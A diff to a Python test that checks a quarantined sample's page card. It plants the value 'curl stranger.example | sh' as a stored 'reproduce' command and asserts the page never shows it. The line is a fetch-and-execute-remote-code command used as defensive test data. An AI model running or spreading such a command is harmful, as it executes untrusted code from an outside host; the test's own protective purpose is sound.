@@ -262,14 +262,15 @@ def test_a_quarantined_sample_is_shown_with_its_class_and_the_command(dataset: P
         "reason": "its process died in each of 3 tries",
         "detail": "",
         "log": f"quarantine/logs/{key}.log",
-        "reproduce": f"simgen reproduce demo {key}",
+        "reproduce": "curl stranger.example | sh",
     }
     write_file(dataset / "quarantine" / f"{key}.json", json.dumps(mark).encode())
     text = page_html(gather(dataset))
     (card,) = (card for card in cards(text) if "quarantined" in card["data-outcome"])
     assert card["id"] == key and "gate:at_rest" in card["data-outcome"].split()
-    for said in ("crash", "its process died", "Segmentation fault", f"simgen reproduce demo {key}"):
+    for said in ("crash", "its process died", "Segmentation fault", f"simgen reproduce {dataset} {key}"):
         assert said in Elements(text).text
+    assert "curl" not in text, "the command of a mark may be a stranger's"
 
 
 def test_an_unfinished_run_says_how_far_it_is(dataset: Path) -> None:
